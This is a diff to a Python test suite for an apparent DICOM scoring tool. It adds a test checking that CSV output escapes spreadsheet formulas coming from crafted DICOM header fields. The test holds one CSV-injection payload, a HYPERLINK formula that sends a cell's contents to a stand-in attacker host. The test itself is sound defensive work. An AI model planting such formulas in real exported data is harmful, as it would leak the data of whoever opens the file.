@@ -43,6 +43,17 @@ def test_json_and_csv_carry_the_same_results(capsys, package_dir):
     assert (row["priority"], row["finding"], row["sha256"]) == (result["priority"], result["finding"], result["sha256"])
 
 
+def test_csv_cells_from_headers_never_start_a_spreadsheet_formula(capsys, package_dir, tmp_path):
+    ds = pydicom.dcmread(CT)
+    ds.SOPInstanceUID = '=HYPERLINK("http://attacker.example/?"&A1,"open")'  # what a crafted header can carry
+    ds.save_as(tmp_path / "crafted.dcm")
+    with pytest.warns(UserWarning):  # pydicom flags the invalid UID; the file still scores
+        code, out, _ = score(capsys, package_dir, tmp_path / "crafted.dcm", "=missing.dcm", "--csv")
+    scored, rejected = csv.DictReader(io.StringIO(out))
+    assert scored["sop_uid"] == "'" + ds.SOPInstanceUID and scored["probability"][0].isdigit()
+    assert rejected["file"] == "'=missing.dcm" and code == 1
+
+
 def test_a_folder_with_bad_files_lists_every_reject_and_exits_nonzero(capsys, package_dir, tmp_path):
     folder = tmp_path / "inbox" / "nested"
     folder.mkdir(parents=True)
